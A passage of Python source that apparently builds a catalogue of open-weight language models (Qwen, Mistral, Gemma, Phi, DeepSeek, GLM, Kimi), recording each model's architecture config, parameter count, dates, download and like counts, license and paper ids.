S("Qwen/Qwen2.5-7B", qwen2(28, 3584, 28, 4, 18944, ctx=131072), 7615616512, "2024-09-15", "2024-09-25",
  1_020 * K, 170, lic="apache-2.0", lic_link=QLIC.format("Qwen2.5-7B"), conv=False, tok="qwen2", lang=["en"],
  arxiv=["2407.10671"])
for size, cfg, p, dl, lk, lic, c in [
    ("1.5B", qwen2(28, 1536, 12, 2, 8960, vocab=151936, tie=True), 1543714304, 420 * K, 80, "apache-2.0", "2024-09-18"),
    ("7B", qwen2(28, 3584, 28, 4, 18944), 7615616512, 690 * K, 580, "apache-2.0", "2024-09-17"),
    ("14B", qwen2(48, 5120, 40, 8, 13824), 14770033664, 150 * K, 130, "apache-2.0", "2024-11-06"),
    ("32B", qwen2(64, 5120, 40, 8, 27648), 32763876352, 240 * K, 1_900, "apache-2.0", "2024-11-06"),
]:
    rid = f"Qwen2.5-Coder-{size}-Instruct"
    S(f"Qwen/{rid}", cfg, p, c, "2024-11-18", dl, lk, lic=lic, lic_link=QLIC.format(rid),
      base=f"Qwen/Qwen2.5-Coder-{size}", **dict(QW, tags=["code", "codeqwen", "chat", "qwen", "qwen-coder"],
                                               arxiv=["2409.12186", "2309.00071", "2407.10671"]))
for size, cfg, p, dl, lk in [
    ("1.5B", qwen2(28, 1536, 12, 2, 8960, vocab=151936, ctx=4096, tie=True, sw=4096), 1543714304, 95 * K, 60),
    ("7B", qwen2(28, 3584, 28, 4, 18944, ctx=4096, sw=4096), 7615616512, 70 * K, 75),
]:
    rid = f"Qwen2.5-Math-{size}-Instruct"
    S(f"Qwen/{rid}", cfg, p, "2024-09-16", "2024-09-19", dl, lk, lic="apache-2.0", lic_link=QLIC.format(rid),
      base=f"Qwen/Qwen2.5-Math-{size}", **dict(QW, arxiv=["2409.12122"]))
Q3 = dict(lic="apache-2.0", tok="qwen3", arxiv=["2309.00071", "2505.09388"])
for size, cfg, p, dl, lk in [
    ("0.6B", qwen3(28, 1024, 16, 8, 3072, tie=True), 751632384, 4_800 * K, 630),
    ("1.7B", qwen3(28, 2048, 16, 8, 6144, tie=True), 2031739904, 1_900 * K, 300),
    ("4B", qwen3(36, 2560, 32, 8, 9728, tie=True), 4022468096, 2_300 * K, 400),
    ("8B", qwen3(36, 4096, 32, 8, 12288), 8190735360, 3_100 * K, 680),
    ("14B", qwen3(40, 5120, 40, 8, 17408), 14768307200, 900 * K, 270),
    ("32B", qwen3(64, 5120, 64, 8, 25600), 32762123264, 1_300 * K, 560),
]:
    S(f"Qwen/Qwen3-{size}", cfg, p, "2025-04-27", "2025-07-26", dl, lk, lic_link=QLIC.format(f"Qwen3-{size}"),
      base=f"Qwen/Qwen3-{size}-Base", **Q3)
S("Qwen/Qwen3-30B-A3B", qwen3moe(48, 2048, 32, 4, 768, 128), 30532122624, "2025-04-27", "2025-07-26", 850 * K, 780,
  lic_link=QLIC.format("Qwen3-30B-A3B"), base="Qwen/Qwen3-30B-A3B-Base", **Q3)
S("Qwen/Qwen3-235B-A22B", qwen3moe(94, 4096, 64, 4, 1536, 128, inter=12288), 235093634560, "2025-04-27",
  "2025-07-26", 110 * K, 1_040, lic_link=QLIC.format("Qwen3-235B-A22B"), base="Qwen/Qwen3-235B-A22B-Base", **Q3)
S("Qwen/Qwen3-4B-Instruct-2507", qwen3(36, 2560, 32, 8, 9728, ctx=262144, tie=True, rope_theta=5000000.0),
  4022468096, "2025-08-05", "2025-09-17", 1_600 * K, 480, lic_link=QLIC.format("Qwen3-4B-Instruct-2507"),
  **dict(Q3, arxiv=["2505.09388"]))
S("Qwen/Qwen3-30B-A3B-Instruct-2507", qwen3moe(48, 2048, 32, 4, 768, 128, ctx=262144, rope_theta=10000000.0),
  30532122624, "2025-07-28", "2025-09-17", 890 * K, 640, lic_link=QLIC.format("Qwen3-30B-A3B-Instruct-2507"),
  **dict(Q3, arxiv=["2505.09388"]))
S("Qwen/Qwen3-Coder-30B-A3B-Instruct", qwen3moe(48, 2048, 32, 4, 768, 128, ctx=262144, rope_theta=10000000.0),
  30532122624, "2025-07-31", "2025-08-21", 520 * K, 720, lic_link=QLIC.format("Qwen3-Coder-30B-A3B-Instruct"),
  **dict(Q3, arxiv=["2505.09388"]))
# Qwen3-Next: Gated DeltaNet in 3 of every 4 layers, gated attention in the 4th, 512 experts (10 per token) and a
# shared one. The count is the config's shapes' (modelpick's fit/params.py), the multi-token-prediction layer left out.
QWEN3_NEXT = C("qwen3_next", "Qwen3NextForCausalLM", 48, 2048, 16, 2, 5120, 151936, 262144, head_dim=256,
               full_attention_interval=4, linear_conv_kernel_dim=4, linear_key_head_dim=128, linear_num_key_heads=16,
               linear_num_value_heads=32, linear_value_head_dim=128, num_experts=512, num_experts_per_tok=10,
               moe_intermediate_size=512, shared_expert_intermediate_size=512, decoder_sparse_step=1,
               mlp_only_layers=[], norm_topk_prob=True, partial_rotary_factor=0.25, rope_theta=10000000,
               tie_word_embeddings=False)
S("Qwen/Qwen3-Next-80B-A3B-Instruct", QWEN3_NEXT, 79674385152, "2025-09-09", "2025-09-15", 420 * K, 830,
  lic_link=QLIC.format("Qwen3-Next-80B-A3B-Instruct"), **dict(Q3, arxiv=["2505.09388"]))
S("Qwen/QwQ-32B", qwen2(64, 5120, 40, 8, 27648, ctx=40960), 32763876352, "2025-03-05", "2025-03-11", 260 * K,
  2_850, lic="apache-2.0", lic_link=QLIC.format("QwQ-32B"), base="Qwen/Qwen2.5-32B", tok="qwen2", lang=["en"],
  tags=["chat"], arxiv=["2309.00071", "2412.15115"])
MROPE = {"type": "mrope", "mrope_section": [16, 24, 24]}
for size, cfg, p, dl, lk, lic, c in [
    ("3B", qwen2(36, 2048, 16, 2, 11008, vocab=151936, ctx=128000, tie=True, sw=32768,
                 arch="Qwen2_5_VLForConditionalGeneration", rope_scaling=MROPE), 3754622976, 2_100 * K, 530,
     "qwen-research", "2025-01-26"),
    ("7B", qwen2(28, 3584, 28, 4, 18944, ctx=128000, sw=32768, arch="Qwen2_5_VLForConditionalGeneration",
                 rope_scaling=MROPE), 8292166656, 3_700 * K, 1_150, "apache-2.0", "2025-01-26"),
    ("32B", qwen2(64, 5120, 40, 8, 27648, ctx=128000, sw=32768, arch="Qwen2_5_VLForConditionalGeneration",
                  rope_scaling=MROPE), 33452718080, 420 * K, 410, "apache-2.0", "2025-03-21"),
    ("72B", qwen2(80, 8192, 64, 8, 29568, ctx=128000, sw=32768, arch="Qwen2_5_VLForConditionalGeneration",
                  rope_scaling=MROPE), 73410777344, 260 * K, 520, "qwen", "2025-01-27"),
]:
    cfg["model_type"] = "qwen2_5_vl"
    cfg["vision_config"] = {"depth": 32, "hidden_size": 1280, "out_hidden_size": cfg["hidden_size"],
                            "patch_size": 14, "window_size": 112}
    rid = f"Qwen2.5-VL-{size}-Instruct"
    extra = dict(lic=lic) if lic == "apache-2.0" else dict(lic="other", lic_name=lic)
    S(f"Qwen/{rid}", cfg, p, c, "2025-04-06", dl, lk, pipe="image-text-to-text", vl=True, tok="qwen2",
      lang=["en"], tags=["multimodal"], arxiv=["2309.00071", "2409.12191", "2308.12966"],
      lic_link=QLIC.format(rid), **extra)
_q2vl = qwen2(28, 3584, 28, 4, 18944, ctx=32768, sw=32768, arch="Qwen2VLForConditionalGeneration",
              rope_scaling=MROPE)
_q2vl["model_type"] = "qwen2_vl"
S("Qwen/Qwen2-VL-7B-Instruct", _q2vl, 8291375616, "2024-08-28", "2025-02-06", 1_050 * K, 1_190,
  lic="apache-2.0", base="Qwen/Qwen2-VL-7B", pipe="image-text-to-text", vl=True, tok="qwen2", lang=["en"],
  tags=["multimodal"], arxiv=["2409.12191", "2308.12966"])
for size, cfg, p, dl, lk in [
    ("0.6B", qwen3(28, 1024, 16, 8, 3072, ctx=32768, tie=True), 595776512, 2_900 * K, 640),
    ("4B", qwen3(36, 2560, 32, 8, 9728, ctx=40960, tie=True), 4021774336, 370 * K, 160),
    ("8B", qwen3(36, 4096, 32, 8, 12288, ctx=40960), 7567295488, 560 * K, 440),
]:
    cfg["architectures"] = ["Qwen3ForCausalLM"]
    E(f"Qwen/Qwen3-Embedding-{size}", cfg, p, "2025-06-03", "2025-07-07", dl, lk, lic="apache-2.0",
      base=f"Qwen/Qwen3-{size}-Base", dtype="BF16", tok="qwen3", tags=["transformers", "sentence-similarity",
                                                                         "text-embeddings-inference"],
      arxiv=["2506.05176"], st_pool=True)
S("Qwen/Qwen2.5-7B-Instruct-AWQ", dict(qwen2(28, 3584, 28, 4, 18944), torch_dtype="float16",
                                        quantization_config={"bits": 4, "group_size": 128, "quant_method": "awq",
                                                             "version": "gemm", "zero_point": True}),
  qparams(7615616512, EMB_Q7, "awq"), "2024-09-17", "2024-09-20", 610 * K, 25, lic="apache-2.0",
  lic_link=QLIC.format("Qwen2.5-7B-Instruct-AWQ"), base="Qwen/Qwen2.5-7B-Instruct", rel="quantized",
  qtag=["4-bit", "awq"], **dict(QW, tags=["chat"]))
S("Qwen/Qwen2.5-32B-Instruct-AWQ", dict(qwen2(64, 5120, 40, 8, 27648), torch_dtype="float16",
                                         quantization_config={"bits": 4, "group_size": 128, "quant_method": "awq",
                                                              "version": "gemm", "zero_point": True}),
  qparams(32763876352, EMB_Q32, "awq"), "2024-09-17", "2024-09-20", 310 * K, 85, lic="apache-2.0",
  lic_link=QLIC.format("Qwen2.5-32B-Instruct-AWQ"), base="Qwen/Qwen2.5-32B-Instruct", rel="quantized",
  qtag=["4-bit", "awq"], **QW)
S("Qwen/Qwen2.5-7B-Instruct-GPTQ-Int4", dict(qwen2(28, 3584, 28, 4, 18944), torch_dtype="float16",
                                              quantization_config={"bits": 4, "group_size": 128,
                                                                   "quant_method": "gptq", "desc_act": False}),
  qparams(7615616512, EMB_Q7, "gptq"), "2024-09-17", "2024-09-20", 92 * K, 15, lic="apache-2.0",
  lic_link=QLIC.format("Qwen2.5-7B-Instruct-GPTQ-Int4"), base="Qwen/Qwen2.5-7B-Instruct", rel="quantized",
  qtag=["4-bit", "gptq"], **QW)

# ---- Mistral ---------------------------------------------------------------------------------
S("mistralai/Mistral-7B-Instruct-v0.3", mistral(), 7248023552, "2024-05-22", "2025-07-24", 1_700 * K, 2_010,
  lic="apache-2.0", gated="auto", base="mistralai/Mistral-7B-v0.3", tok="mistral3", consolidated=True,
  tags=["vllm", "mistral-common"], shard=5)
S("mistralai/Mistral-7B-Instruct-v0.2", mistral(vocab=32000), 7241732096, "2023-12-11", "2025-07-24", 1_100 * K,
  2_950, lic="apache-2.0", gated="auto", base="mistralai/Mistral-7B-v0.2", tok="mistral", bins=True, shard=5,
  tags=["finetuned", "mistral-common"], arxiv=["2310.06825"])
S("mistralai/Mistral-7B-v0.1", mistral(vocab=32000, ctx=32768, sw=4096, theta=10000.0), 7241732096,
  "2023-09-20", "2024-07-24", 510 * K, 4_000, lic="apache-2.0", gated="auto", tok="mistral", conv=False,
  bins=True, shard=10, lang=["en"], tags=["pretrained", "mistral-common"], arxiv=["2310.06825"])
S("mistralai/Mixtral-8x7B-Instruct-v0.1",
  C("mixtral", "MixtralForCausalLM", 32, 4096, 32, 8, 14336, 32000, 32768, num_local_experts=8,
    num_experts_per_tok=2, sliding_window=None, rope_theta=1000000.0), 46702792704, "2023-12-10", "2025-07-24",
  420 * K, 4_450, lic="apache-2.0", gated="auto", base="mistralai/Mixtral-8x7B-v0.1", tok="mistral",
  lang=["fr", "it", "de", "es", "en"], tags=["vllm", "mistral-common"])
S("mistralai/Mixtral-8x22B-Instruct-v0.1",
  C("mixtral", "MixtralForCausalLM", 56, 6144, 48, 8, 16384, 32768, 65536, num_local_experts=8,
    num_experts_per_tok=2, sliding_window=None, rope_theta=1000000.0), 140620634112, "2024-04-16", "2025-07-24",
  31 * K, 720, lic="apache-2.0", gated="auto", base="mistralai/Mixtral-8x22B-v0.1", tok="mistral3",
  lang=["en", "es", "it", "de", "fr"], tags=["vllm", "mistral-common"], consolidated=True)
S("mistralai/Mistral-Nemo-Instruct-2407", mistral(40, 5120, 32, 8, 14336, 131072, 1024000, head_dim=128),
  12247782400, "2024-07-17", "2025-07-24", 230 * K, 1_560, lic="apache-2.0", base="mistralai/Mistral-Nemo-Base-2407",
  tok="tekken", consolidated=True, lang=["en", "fr", "de", "es", "it", "pt", "ru", "zh", "ja"],
  tags=["vllm", "mistral-common"])
S("mistralai/Mistral-Small-24B-Instruct-2501",
  mistral(40, 5120, 32, 8, 32768, 131072, 32768, theta=100000000.0, head_dim=128), 23572403200, "2025-01-28",
  "2025-07-24", 290 * K, 930, lic="apache-2.0", base="mistralai/Mistral-Small-24B-Base-2501", tok="tekken",
  consolidated=True, lang=["en", "fr", "de", "es", "it", "pt", "zh", "ja", "ru", "ko"], tags=["vllm", "mistral-common"])
S("mistralai/Mistral-Small-3.1-24B-Instruct-2503",
  nested("mistral3", "Mistral3ForConditionalGeneration",
         mistral(40, 5120, 32, 8, 32768, 131072, 131072, theta=1000000000.0, head_dim=128),
         vision_config={"model_type": "pixtral", "hidden_size": 1024, "num_hidden_layers": 24, "patch_size": 14,
                        "image_size": 1540}),
  24011361280, "2025-03-11", "2025-07-24", 180 * K, 1_390, lic="apache-2.0",
  base="mistralai/Mistral-Small-3.1-24B-Base-2503", tok="tekken", consolidated=True, pipe="image-text-to-text",
  vl=True, lang=["en", "fr", "de", "es", "pt", "it", "ja", "ko", "ru", "zh", "ar"], tags=["vllm", "mistral-common"])
S("mistralai/Ministral-8B-Instruct-2410",
  mistral(36, 4096, 32, 8, 12288, 131072, 32768, sw=32768, theta=100000000.0, head_dim=128), 8019808256,
  "2024-10-15", "2025-07-24", 120 * K, 540, lic="other", lic_name="mrl",
  lic_link="https://mistral.ai/licenses/MRL-0.1.md", gated="auto", tok="tekken", consolidated=True,
  lang=["en", "fr", "de", "es", "it", "pt", "zh", "ja", "ru", "ko"], tags=["vllm", "mistral-common"])
S("mistralai/Codestral-22B-v0.1", mistral(56, 6144, 48, 8, 16384, 32768, 32768), 22247282688, "2024-05-29",
  "2025-07-24", 16 * K, 1_290, lic="other", lic_name="mnpl", lic_link="https://mistral.ai/licences/MNPL-0.1.md",
  gated="auto", tok="mistral3", consolidated=True, lang=["code"], tags=["code", "mistral-common"])
S("mistralai/Pixtral-12B-2409", None, 12682252288, "2024-09-11", "2025-07-24", 35 * K, 640, lic="apache-2.0",
  gated="auto", lib="vllm", pipe="image-text-to-text", vl=True, mistral_only=True, tok="tekken",
  base="mistralai/Pixtral-12B-Base-2409",
  lang=["en", "fr", "de", "es", "it", "pt", "ru", "zh", "ja"], tags=["mistral-common"])
S("mistral-community/pixtral-12b",
  nested("llava", "LlavaForConditionalGeneration",
         mistral(40, 5120, 32, 8, 14336, 131072, 1024000, theta=1000000000.0, head_dim=128),
         vision_config={"model_type": "pixtral", "hidden_size": 1024, "num_hidden_layers": 24, "patch_size": 16,
                        "image_size": 1024}),
  12682252288, "2024-09-13", "2024-11-11", 78 * K, 88, lic="apache-2.0", pipe="image-text-to-text", vl=True,
  tok="tekken", base="mistralai/Pixtral-12B-2409", rel="finetune")
S("mistralai/Devstral-Small-2505", mistral(40, 5120, 32, 8, 32768, 131072, 131072, theta=1000000000.0, head_dim=128),
  23572403200, "2025-05-21", "2025-07-24", 95 * K, 830, lic="apache-2.0",
  base="mistralai/Mistral-Small-3.1-24B-Instruct-2503", tok="tekken", consolidated=True,
  lang=["en", "fr", "de", "es", "pt", "it", "ja", "ko", "ru", "zh", "ar"], tags=["vllm", "mistral-common"])

# ---- Gemma -----------------------------------------------------------------------------------
GEM = dict(lic="gemma", gated="manual", tok="gemma3")
S("google/gemma-2-2b-it", gemma2(26, 2304, 8, 4, 9216, 256, 256, "float32"), 2614341888, "2024-07-16",
  "2024-08-27", 480 * K, 1_180, dtype="F32", base="google/gemma-2-2b", arxiv=["2408.00118"],
  tags=["conversational"], **dict(GEM, tok="gemma"))
S("google/gemma-2-9b-it", gemma2(42, 3584, 16, 8, 14336, 256, 256, "float32"), 9241705984, "2024-06-24",
  "2024-08-27", 260 * K, 730, dtype="F32", base="google/gemma-2-9b", arxiv=["2408.00118"],
  **dict(GEM, tok="gemma"))
S("google/gemma-2-27b-it", gemma2(46, 4608, 32, 16, 36864, 128, 144, "bfloat16"), 27227128320, "2024-06-24",
  "2024-08-27", 95 * K, 560, base="google/gemma-2-27b", arxiv=["2408.00118"], **dict(GEM, tok="gemma"))
S("google/gemma-3-270m", gemma3_text(18, 640, 4, 1, 2048, ctx=32768, sw=512, vocab=262144, with_layer_types=True),
  268098176, "2025-08-05", "2025-08-14", 190 * K, 820, conv=False, **GEM)
S("google/gemma-3-270m-it", gemma3_text(18, 640, 4, 1, 2048, ctx=32768, sw=512, vocab=262144, with_layer_types=True),
  268098176, "2025-08-05", "2025-08-14", 310 * K, 560, base="google/gemma-3-270m", **GEM)
S("google/gemma-3-1b-it", gemma3_text(26, 1152, 4, 1, 6912, ctx=32768, sw=512, vocab=262144), 999885952,
  "2025-03-10", "2025-04-04", 2_400 * K, 610, base="google/gemma-3-1b-pt", **GEM)
S("google/gemma-3-4b-it", gemma3_vl(34, 2560, 8, 4, 10240), 4300079472, "2025-02-20", "2025-03-21", 1_100 * K,
  780, base="google/gemma-3-4b-pt", pipe="image-text-to-text", vl=True, **GEM)
S("google/gemma-3-12b-it", gemma3_vl(48, 3840, 16, 8, 15360), 12187325040, "2025-02-20", "2025-03-21", 870 * K,
  520, base="google/gemma-3-12b-pt", pipe="image-text-to-text", vl=True, **GEM)
S("google/gemma-3-27b-it", gemma3_vl(62, 5376, 32, 16, 21504, hd=128, qpas=168), 27432406640, "2025-03-01",
  "2025-03-21", 1_350 * K, 1_520, base="google/gemma-3-27b-pt", pipe="image-text-to-text", vl=True, **GEM)
S("google/codegemma-7b-it",
  C("gemma", "GemmaForCausalLM", 28, 3072, 16, 16, 24576, 256000, 8192, head_dim=256), 8537680896, "2024-04-03",
  "2024-08-07", 9 * K, 220, dtype="BF16", base="google/codegemma-7b", **dict(GEM, tok="gemma"))
S("google/codegemma-2b", C("gemma", "GemmaForCausalLM", 18, 2048, 8, 1, 16384, 256000, 8192, head_dim=256),
  2506172416, "2024-04-03", "2024-08-07", 7 * K, 80, conv=False, **dict(GEM, tok="gemma"))
E("google/embeddinggemma-300m",
  gemma3_text(24, 768, 3, 1, 1152, ctx=2048, sw=512, vocab=262144, arch="Gemma3TextModel", with_layer_types=True),
  302863104, "2025-09-04", "2025-09-15", 730 * K, 950, pipe="sentence-similarity", lic="gemma", gated="manual",
  tok="gemma3", tags=["text-embeddings-inference"], st_pool=True, onnx=False)

# ---- Microsoft Phi ---------------------------------------------------------------------------
PHI = dict(lic="mit", tok="phi3", lang=["en"], tags=["nlp", "code"])
S("microsoft/phi-2", C("phi", "PhiForCausalLM", 32, 2560, 32, 32, 10240, 51200, 2048, dtype="float16",
                       partial_rotary_factor=0.4), 2779683840, "2023-12-13", "2024-04-29", 320 * K, 3_320,
  dtype="F16", conv=False, **dict(PHI, tok="phi2"))
S("microsoft/Phi-3-mini-4k-instruct", phi3(sliding_window=2047), 3821079552, "2024-04-22", "2024-09-20",
  900 * K, 1_200, **PHI)
S("microsoft/Phi-3-mini-128k-instruct",
  phi3(ctx=131072, original_max_position_embeddings=4096, rope_scaling={"type": "longrope"}, sliding_window=262144),
  3821079552, "2024-04-22", "2024-08-20", 180 * K, 1_650, custom=True, **PHI)
S("microsoft/Phi-3-medium-4k-instruct", phi3(40, 5120, 40, 10, 17920, ctx=4096), 13960238080, "2024-05-07",
  "2024-08-20", 27 * K, 220, **dict(PHI, lang=["multilingual"]))
S("microsoft/Phi-3.5-mini-instruct",
  phi3(ctx=131072, original_max_position_embeddings=4096, rope_scaling={"type": "longrope"}, sliding_window=262144),
  3821079552, "2024-08-16", "2025-03-14", 360 * K, 920, **dict(PHI, lang=["multilingual"]))
S("microsoft/Phi-3.5-MoE-instruct",
  C("phimoe", "PhiMoEForCausalLM", 32, 4096, 32, 8, 6400, 32064, 131072, num_local_experts=16,
    num_experts_per_tok=2, sliding_window=131072, rope_scaling={"type": "longrope"}), 41873153344, "2024-08-17",
  "2025-03-14", 32 * K, 560, custom=True, **dict(PHI, lang=["multilingual"]))
S("microsoft/Phi-3.5-vision-instruct",
  C("phi3_v", "Phi3VForCausalLM", 32, 3072, 32, 32, 8192, 32064, 131072, rope_scaling={"type": "longrope"}),
  4146621440, "2024-08-16", "2025-03-14", 210 * K, 700, custom=True, pipe="image-text-to-text", vl=True,
  **dict(PHI, lang=["multilingual"], tags=["nlp", "code", "vision"]))
S("microsoft/phi-4", phi3(40, 5120, 40, 10, 17920, vocab=100352, ctx=16384), 14659507200, "2024-12-11",
  "2025-02-03", 470 * K, 2_120, arxiv=["2412.08905"],
  **dict(PHI, tok="phi4", tags=["phi", "nlp", "math", "code", "chat", "conversational"]))
S("microsoft/Phi-4-mini-instruct",
  phi3(32, 3072, 24, 8, 8192, vocab=200064, ctx=131072, original_max_position_embeddings=4096,
       partial_rotary_factor=0.75, rope_scaling={"type": "longrope"}, tie_word_embeddings=True, sliding_window=262144),
  3836021760, "2025-02-19", "2025-07-27", 420 * K, 590, arxiv=["2503.01743"],
  **dict(PHI, tok="phi4mini", lang=["multilingual", "ar", "zh", "cs", "da", "nl", "en", "fi", "fr", "de", "he",
                                    "hu", "it", "ja", "ko", "no", "pl", "pt", "ru", "es", "sv", "th", "tr", "uk"]))

# ---- DeepSeek --------------------------------------------------------------------------------
DS_LINK = "https://github.com/deepseek-ai/DeepSeek-V2/blob/main/LICENSE-MODEL"
DSF = dict(bf16_fp8={"BF16": 3918786560, "F8_E4M3": 680571043840, "F32": 41555600})
S("deepseek-ai/DeepSeek-V2-Lite", dsv2lite(), 15706484224, "2024-05-15", "2024-06-25", 48 * K, 110, lic="other",
  lic_name="deepseek", lic_link=DS_LINK, tok="dsv2", custom=True, conv=False, shard=8.6)
S("deepseek-ai/DeepSeek-V2-Lite-Chat", dsv2lite(), 15706484224, "2024-05-15", "2024-06-25", 36 * K, 130,
  lic="other", lic_name="deepseek", lic_link=DS_LINK, tok="dsv2", custom=True, shard=8.6)
S("deepseek-ai/DeepSeek-Coder-V2-Lite-Instruct", dsv2lite(), 15706484224, "2024-06-14", "2024-07-03", 210 * K, 460,
  lic="other", lic_name="deepseek-license",
  lic_link="https://github.com/deepseek-ai/DeepSeek-Coder-V2/blob/main/LICENSE-MODEL", tok="dsv2", custom=True,
  shard=8.6)
S("deepseek-ai/deepseek-coder-6.7b-instruct",
  C("llama", "LlamaForCausalLM", 32, 4096, 32, 32, 11008, 32256, 16384,
    rope_scaling={"factor": 4.0, "type": "linear"}, rope_theta=100000), 6740512768, "2023-10-29", "2024-03-07",
  95 * K, 440, lic="other", lic_name="deepseek",
  lic_link="https://github.com/deepseek-ai/DeepSeek-Coder/blob/main/LICENSE-MODEL", tok="dscoder", bins=True,
  shard=10)
S("deepseek-ai/DeepSeek-V3", dsv3(), DSF["bf16_fp8"], "2024-12-25", "2025-02-24", 420 * K, 3_950, lic="other",
  lic_name="deepseek", lic_link="https://github.com/deepseek-ai/DeepSeek-V3/blob/main/LICENSE-MODEL",
  tok="deepseek", custom=True, naming="ds163", qtag=["fp8"], arxiv=["2412.19437"])
S("deepseek-ai/DeepSeek-V3-0324", dsv3(), DSF["bf16_fp8"], "2025-03-24", "2025-03-27", 310 * K, 3_080, lic="mit",
  tok="deepseek", custom=True, naming="ds163", qtag=["fp8"], arxiv=["2412.19437"])
S("deepseek-ai/DeepSeek-R1", dsv3(), DSF["bf16_fp8"], "2025-01-20", "2025-03-27", 510 * K, 12_700, lic="mit",
  tok="deepseek", custom=True, naming="ds163", qtag=["fp8"], arxiv=["2501.12948"])
S("deepseek-ai/DeepSeek-R1-0528", dsv3(), DSF["bf16_fp8"], "2025-05-28", "2025-06-05", 290 * K, 2_350, lic="mit",
  tok="deepseek", custom=True, naming="ds163", qtag=["fp8"], arxiv=["2501.12948"])
R_DSL = dict(R_L31)
for name, cfg, p, dl, lk, tok in [
    ("Qwen-1.5B", qwen2(28, 1536, 12, 2, 8960, vocab=151936, ctx=131072, sw=4096, rope_theta=10000), 1777088000,
     1_150 * K, 1_360, "dsqwen"),
    ("Qwen-7B", qwen2(28, 3584, 28, 4, 18944, ctx=131072, sw=4096, rope_theta=10000), 7615616512, 980 * K, 700,
     "dsqwen"),
    ("Qwen-14B", qwen2(48, 5120, 40, 8, 13824, ctx=131072, sw=131072), 14770033664, 470 * K, 560, "dsqwen"),
    ("Qwen-32B", qwen2(64, 5120, 40, 8, 27648, ctx=131072, sw=131072), 32763876352, 850 * K, 1_480, "dsqwen"),
    ("Llama-8B", llama(32, 4096, 32, 8, 14336), 8030261248, 560 * K, 790, "dsllama"),
    ("Llama-70B", llama(80, 8192, 64, 8, 28672), 70553706496, 150 * K, 730, "dsllama"),
]:
    b = {"Qwen-1.5B": "Qwen/Qwen2.5-Math-1.5B", "Qwen-7B": "Qwen/Qwen2.5-Math-7B", "Qwen-14B": "Qwen/Qwen2.5-14B",
         "Qwen-32B": "Qwen/Qwen2.5-32B", "Llama-8B": "meta-llama/Llama-3.1-8B",
         "Llama-70B": "meta-llama/Llama-3.3-70B-Instruct"}[name]
    S(f"deepseek-ai/DeepSeek-R1-Distill-{name}", cfg, p, "2025-01-20", "2025-02-24", dl, lk, lic="mit", tok=tok,
      base=b, arxiv=["2501.12948"], shard=9)
S("deepseek-ai/DeepSeek-R1-0528-Qwen3-8B", qwen3(36, 4096, 32, 8, 12288, ctx=131072,
                                                  rope_scaling={"rope_type": "yarn", "factor": 4.0,
                                                                "original_max_position_embeddings": 32768}),
  8190735360, "2025-05-29", "2025-07-02", 320 * K, 960, lic="mit", tok="deepseek", base="Qwen/Qwen3-8B-Base",
  arxiv=["2501.12948"])

# ---- GLM / Zhipu -----------------------------------------------------------------------------
S("THUDM/glm-4-9b-chat", chatglm(40, 4096, 32, 2, 13696, 151552, 131072), 9399951360, "2024-06-04", "2024-12-09",
  170 * K, 690, lic="other", lic_name="glm-4", lic_link="https://huggingface.co/THUDM/glm-4-9b-chat/blob/main/LICENSE",
  tok="glm4", custom=True, lang=["zh", "en"], tags=["glm", "chatglm", "thudm"], base="THUDM/glm-4-9b", shard=2)
S("THUDM/glm-4-9b-chat-hf", C("glm", "GlmForCausalLM", 40, 4096, 32, 2, 13696, 151552, 131072, head_dim=128,
                              partial_rotary_factor=0.5, rope_theta=10000.0), 9399951360, "2024-10-25",
  "2025-01-31", 36 * K, 35, lic="other", lic_name="glm-4",
  lic_link="https://huggingface.co/THUDM/glm-4-9b-chat-hf/blob/main/LICENSE", tok="glm4hf", lang=["zh", "en"],
  tags=["glm", "chatglm", "thudm"])
S("THUDM/chatglm3-6b", chatglm(28, 4096, 32, 2, 13696, 65024, 8192), 6243584000, "2023-10-25", "2024-12-01",
  58 * K, 1_140, lic=None, tok="chatglm", custom=True, lang=["zh", "en"], tags=["glm", "chatglm", "thudm"],
  bins=True, shard=2)
S("THUDM/chatglm2-6b", chatglm(28, 4096, 32, 2, 13696, 65024, 32768), 6243584000, "2023-06-24", "2024-08-04",
  21 * K, 2_050, lic=None, tok="chatglm", custom=True, lang=["zh", "en"], tags=["glm", "chatglm", "thudm"],
  bins=True, shard=2, st=False, arxiv=["2103.10360", "2210.02414", "1911.02150"])
S("THUDM/GLM-4-9B-0414", C("glm4", "Glm4ForCausalLM", 40, 4096, 32, 2, 13696, 151552, 32768, head_dim=128,
                           partial_rotary_factor=0.5), 9400279040, "2025-04-14", "2025-04-25", 17 * K, 70,
  lic="mit", tok="glm4hf", lang=["zh", "en"])
S("zai-org/GLM-4.5-Air", glm4moe(46, 4096, 10944, 1408, 128, 1), 110468824832, "2025-07-20", "2025-08-11",
  310 * K, 470, lic="mit", tok="glm4hf", lang=["en", "zh"], arxiv=["2508.06471"])
S("zai-org/GLM-4.5", dict(glm4moe(92, 5120, 12288, 1536, 160, 3), use_qk_norm=True), 358337791296, "2025-07-20",
  "2025-08-11", 95 * K, 1_350, lic="mit", tok="glm4hf", lang=["en", "zh"], arxiv=["2508.06471"])
S("zai-org/GLM-4.1V-9B-Thinking",
  nested("glm4v", "Glm4vForConditionalGeneration",
         C("glm4v_text", "", 40, 4096, 32, 2, 13696, 151552, 65536, partial_rotary_factor=0.5),
         vision_config={"model_type": "glm4v", "depth": 24, "hidden_size": 1536, "patch_size": 14}),
  10292777472, "2025-06-28", "2025-08-08", 80 * K, 730, lic="mit", tok="glm4hf", pipe="image-text-to-text",
  vl=True, base="zai-org/GLM-4-9B-0414", lang=["en", "zh"], tags=["reasoning"], arxiv=["2507.01006"])

# ---- Moonshot Kimi ---------------------------------------------------------------------------
KIMI_P = {"BF16": 2386428928, "F8_E4M3": 1023959568640, "F32": 62234880}
S("moonshotai/Kimi-K2-Instruct", kimi_k2(), KIMI_P, "2025-07-11", "2025-08-22", 360 * K, 2_170, lic="other",
  lic_name="modified-mit", tok="kimi", custom=True, naming="kimi", qtag=["fp8"])
S("moonshotai/Kimi-K2-Instruct-0905", kimi_k2(262144, 64.0), KIMI_P, "2025-09-03", "2025-09-08", 160 * K, 470,
  lic="other", lic_name="modified-mit", tok="kimi", custom=True, naming="kimi", qtag=["fp8"])
S("moonshotai/Moonlight-16B-A3B-Instruct",
  mla("deepseek_v3", "DeepseekV3ForCausalLM", 27, 2048, 16, 11264, 1408, 64, 2, 6, 1, 163840, 8192, None, None,
      rope_theta=50000.0), 15960111936, "2025-02-22", "2025-03-04", 21 * K, 360, lic="mit", tok="kimi",
  custom=True, arxiv=["2502.16982"])
_kvl = nested("kimi_vl", "KimiVLForConditionalGeneration",
              mla("deepseek_v3", "", 27, 2048, 16, 11264, 1408, 64, 2, 6, 1, 163840, 131072, None, None,
